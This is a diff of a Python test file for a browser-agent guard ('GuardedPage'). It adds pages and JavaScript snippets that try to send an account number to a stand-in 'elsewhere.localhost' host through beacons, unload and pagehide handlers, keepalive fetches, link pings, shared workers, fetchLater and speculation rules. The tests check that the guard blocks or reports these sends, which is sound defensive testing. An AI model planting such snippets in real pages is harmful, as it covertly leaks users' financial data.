@@ -1,6 +1,7 @@
 """GuardedPage: somebody's own page under a guard, in the sync and async API, on an application of no schema of ours."""
 
 import asyncio
+import contextlib
 import json
 from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -18,7 +19,7 @@ from wm_pipeline.domain.decision import Decision
 from wm_pipeline.domain.errors import NotDoneError, WorldError
 from wm_pipeline.domain.relations import relate
 from wm_pipeline.domain.state import State
-from wm_pipeline.domain.vocabulary import Verdict
+from wm_pipeline.domain.vocabulary import ActionKind, Verdict
 from wm_pipeline.environments.browser import any_page
 from wm_pipeline.environments.browser.any_page import Session, observe
 from wm_pipeline.environments.browser.chromium import find_chromium
@@ -46,9 +47,15 @@ TRICKS = """<!doctype html><title>Tricks</title><p>The account is DE00 5001.</p>
 <a href="http://elsewhere.localhost:PORT/docs" id="docs">Docs</a>
 <button id="plain" onclick="navigator.sendBeacon('http://elsewhere.localhost:PORT/take', 'DE00 5001')">Beacon</button>
 <button id="socket" onclick="new WebSocket('ws://elsewhere.localhost:PORT/socket')">Socket</button>
+<button id="by-and-by" onclick="setTimeout(late, 1500)">By and by</button>
+<button id="often" onclick="setTimeout(() => setInterval(late, 100), 800)">Often</button>
+<button id="leaving">Leaving</button>
 <button id="endless" onclick="for (;;);">Endless</button>
 <input id="held" aria-label="Held" value="one"><iframe src="/other" width="900" height="400"></iframe>
 <script>
+const over = () => { location.hash = "over"; };
+const late = () => fetch("/late", {method: "POST", body: "LATE"}).catch(over).then(over);
+leaving.onclick = () => addEventListener("pagehide", () => navigator.sendBeacon("/left", "DE00 5001"));
 wire.onsubmit = () => { fetch("/wire", {method: "POST", body: "amount=5&to=DE00", keepalive: true}); };
 note.addEventListener("formdata", (event) => event.formData.set("text", "DE00 5001"));
 spa.onsubmit = (event) => {
@@ -66,6 +73,7 @@ class Orders:
 
     def __init__(self) -> None:
         self.received: list[tuple[str, str]] = []
+        self.late = "DE00"
         shop = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -83,6 +91,7 @@ class Orders:
                 self.send_header("content-type", "text/html")
                 self.end_headers()
                 page = TRICKS if self.path == "/tricks" else PAGE
+                page = page.replace("LATE", shop.late)
                 self.wfile.write(page.replace("PORT", self.headers["host"].partition(":")[2]).encode())
 
             def log_message(self, *_: object) -> None:
@@ -382,6 +391,144 @@ def test_another_page_of_the_same_browser_sends_what_it_likes_meanwhile(orders: 
 
     assert asyncio.run(async_pages(orders, work)) == "yes"
     assert orders.received == [("/own", "DE00")]
+
+
+def waits(page: GuardedPage) -> Any:
+    return page.wait_for_url("**#over")
+
+
+@both
+@pytest.mark.parametrize(
+    ("body", "received"), [("DE00", []), ("x=1", [("/late", "x=1")])], ids=["refused", "let through"]
+)
+def test_what_a_page_puts_off_until_after_the_action_is_judged_as_its_doing(
+    play: Play, orders: Orders, body: str, received: list[tuple[str, str]]
+) -> None:
+    orders.late = body
+    seen: list[GuardedPage] = []
+    asked: list[Judged] = []
+
+    def keep(page: GuardedPage) -> Any:
+        seen.append(page)
+        return page.title()
+
+    play(
+        orders,
+        [open_tricks, lambda page: page.click("#by-and-by"), waits, keep],
+        on_escalate=asked.append,
+    )
+
+    assert orders.received == received
+    assert seen[0].judged[-1].state.forms[-1].action_url.endswith("/late")
+    assert asked == []  # nobody waits for an answer to what a page sends by and by
+
+
+@both
+def test_what_a_page_sends_when_it_is_left_is_judged(play: Play, orders: Orders) -> None:
+    play(orders, [open_tricks, lambda page: page.click("#leaving"), lambda page: page.goto(orders.url)])
+
+    assert orders.received == []
+
+
+PING = "const a = document.createElement('a'); a.href = '#x'; a.ping = '/take?iban'; document.body.append(a); a.click()"
+IN_PLACE = {
+    "pagehide": "window.onpagehide = () => navigator.sendBeacon('/take', 'iban')",
+    "visibility": "document.addEventListener('visibilitychange', () => navigator.sendBeacon('/take', 'iban'))",
+    "unload": "window.addEventListener('unload', () => navigator.sendBeacon('/take', 'iban'))",
+    "pagehide, fetch": "window.onpagehide = () => fetch('/take', {method: 'POST', body: 'iban', keepalive: true})",
+    "pagehide, picture": "window.onpagehide = () => { new Image().src = 'ELSEWHERE'; }",
+    "beforeunload": "window.onbeforeunload = () => { navigator.sendBeacon('/take', 'iban'); }",
+    "keepalive": "fetch('/take', {method: 'POST', body: 'iban', keepalive: true}); location.href = '/other'",
+    "ping": PING,
+    "navigation": "navigation.onnavigate = () => { navigator.sendBeacon('/take', 'iban'); }",
+    "event source": "new EventSource('ELSEWHERE')",
+    "window": "open('ELSEWHERE', '_blank', 'noopener')",
+}
+PAST = {
+    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('ELSEWHERE')`])))",
+    "fetchLater": "fetchLater('/take', {method: 'POST', body: 'iban', activateAfter: 100})",
+    "prefetch": "const l = document.createElement('link');"
+    " l.rel = 'prefetch'; l.href = 'ELSEWHERE'; document.head.append(l)",
+    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules';"
+    " s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['ELSEWHERE']}]}); document.head.append(s)",
+}
+
+
+class NoRequestGuard:
+    """Lets through whatever an agent does, and no request of a script."""
+
+    def decide(self, state: State, action: Action) -> Decision:
+        is_request = action.kind is ActionKind.SUBMIT
+        verdict, executed = (Verdict.ESCALATE, None) if is_request else (Verdict.EXECUTE, action)
+        return Decision(verdict, executed, "a request", None, 1.0, hold=why_effect_unknown(state, action))
+
+
+async def tried(page: Any, orders: Orders, script: str) -> tuple[list[tuple[str, str]], str | None]:
+    """What arrives when a click runs a script and the page is left; why it was not let go."""
+    orders.received.clear()
+    elsewhere = orders.url.replace("localhost", "elsewhere.localhost") + "take?iban"
+    await page.goto(orders.url)
+    await page.evaluate(
+        "(script) => { document.getElementById('title').onclick = new Function(script); }",
+        script.replace("ELSEWHERE", f"{elsewhere}&{len(script)}"),
+    )
+    guarded, why = GuardedPage(page, NoRequestGuard(), goal="Order for Dana."), None
+    with contextlib.suppress(ActionRefusedError):
+        await guarded.click("#title")
+    await asyncio.sleep(0.8)
+    try:
+        await guarded.goto(orders.url)
+    except ActionRefusedError as error:
+        why = error.decision.reason
+    await asyncio.sleep(0.3)
+    await page.goto("about:blank")
+    return list(orders.received), why
+
+
+def test_nothing_leaves_when_a_page_is_left_nor_by_rarer_ways(orders: Orders) -> None:
+    async def work(page: Any) -> dict[str, Any]:
+        return {name: (await tried(page, orders, script))[0] for name, script in IN_PLACE.items()}
+
+    assert asyncio.run(async_pages(orders, work)) == {name: [] for name in IN_PLACE}
+
+
+def test_what_the_browser_does_not_stop_at_is_told_and_makes_the_rest_a_persons(orders: Orders) -> None:
+    async def work(page: Any) -> dict[str, Any]:
+        return {name: await tried(page, orders, script) for name, script in PAST.items()}
+
+    found = asyncio.run(async_pages(orders, work))
+    told = {name for name, (_, why) in found.items() if "sent what could not be held back" in (why or "")}
+
+    assert {name for name, (arrived, _) in found.items() if arrived} == told
+    assert {"shared worker", "fetchLater", "speculation"} <= told
+
+
+def test_the_same_request_again_and_again_is_judged_once(orders: Orders) -> None:
+    async def work(page: Any) -> int:
+        await page.goto(orders.url + "tricks")
+        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.")
+        await guarded.click("#often")
+        await asyncio.sleep(1.5)
+        return len(guarded.judged)
+
+    assert asyncio.run(async_pages(orders, work)) == 2
+    assert orders.received == []
+
+
+def test_what_is_done_with_the_page_itself_is_not_held_nor_are_pages_opened_after_it(orders: Orders) -> None:
+    async def work(page: Any) -> None:
+        await page.goto(orders.url)
+        guarded = GuardedPage(page, AccountGuard(), goal="Order for Dana.")
+        await guarded.click("#title")
+        other = await page.context.new_page()
+        await other.goto(orders.url)
+        await other.evaluate("fetch('/other', {method: 'POST', body: 'DE00'})")
+        await guarded.unguarded.evaluate("fetch('/free', {method: 'POST', body: 'DE00'})")
+        await guarded.click("#title")
+        await page.evaluate("fetch('/held', {method: 'POST', body: 'DE00'}).catch(() => null)")
+
+    asyncio.run(async_pages(orders, work))
+    assert orders.received == [("/other", "DE00"), ("/free", "DE00")]
 
 
 def test_a_page_that_never_answers_ends_the_act(orders: Orders, monkeypatch: pytest.MonkeyPatch) -> None:
